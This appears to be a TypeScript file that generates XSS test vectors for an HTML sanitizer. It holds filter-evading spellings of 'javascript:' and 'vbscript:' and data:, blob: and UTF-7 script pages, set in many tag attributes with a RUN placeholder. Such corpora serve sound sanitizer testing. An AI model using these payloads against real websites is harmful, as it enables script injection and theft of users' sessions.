import type { Draft } from './vector.ts';

/** How `javascript:` has been written so that a filter does not see it. */
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '&#9;javascript:',
  '&#1;javascript:',
  '&#x14;javascript:',
  'java&#9;script:',
  'java&#10;script:',
  'java&#13;script:',
  'java&Tab;script&colon;',
  'java&NewLine;script&colon;',
  'javascript&#58;',
  'javascript&#x3A;',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A',
  '&#0000106avascript:',
  'javascript://%0a',
  'javascript:/*--></title></style></textarea></script>*/',
  'javascript:void(0);',
  'view-source:javascript:',
  'feed:javascript:',
  'vbscript:',
];

/** Where an address is followed at once, when pressed, or by what surrounds it. */
const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href="${address}" target="_blank">x</a>`,
  (address) => `<svg><a href="${address}"><text y="20">x</text></a></svg>`,
  (address) => `<svg><a xlink:href="${address}"><text y="20">x</text></a></svg>`,
  (address) => `<math href="${address}"><mtext>x</mtext></math>`,
  (address) => `<map name="m"><area href="${address}"></map>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<form><button formaction="${address}">x</button></form>`,
  (address) => `<form><input type="image" formaction="${address}"></form>`,
];

export const spellings: readonly Draft[] = schemes.flatMap((scheme) => places.map((place): Draft => ['address', place(`${scheme}RUN`)]));

/** Old attributes that have taken addresses of programs, and pages written into an address. */
const page = '&lt;script&gt;RUN&lt;/script&gt;';
export const pages: readonly Draft[] = [
  ...[
    'img src',
    'img lowsrc',
    'img dynsrc',
    'input type=image src',
    'body background',
    'table background',
    'td background',
    'bgsound src',
  ].map((place): Draft => ['address', `<${place}="javascript:RUN">`]),
  ...['video src', 'audio src', 'video poster', 'source src', 'track src', 'applet code', 'isindex action', 'layer src', 'xml src'].map(
    (place): Draft => ['address', `<${place}="javascript:RUN">`],
  ),
  ...['iframe src', 'frame src', 'object data', 'embed src', 'a href', 'portal src', 'fencedframe src'].flatMap((place): Draft[] => [
    ['frame', `<${place}="data:text/html,${page}">x`],
    ['frame', `<${place}="data:text/html;charset=utf-7,+ADw-script+AD4-RUN+ADw-/script+AD4-">x`],
    ['frame', `<${place}="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/&gt;">x`],
    ['frame', `<${place}="data:text/xml,&lt;x xmlns='http://www.w3.org/1999/xhtml'&gt;${page}&lt;/x&gt;">x`],
    ['frame', `<${place}="blob:ORIGIN/11111111-1111-4111-8111-111111111111">x`],
    ['frame', `<${place}="filesystem:ORIGIN/temporary/x.html">x`],
    ['frame', `<${place}="FOREIGN/page">x`],
    ['frame', `<${place}="about:blank#${page}">x`],
  ]),
];
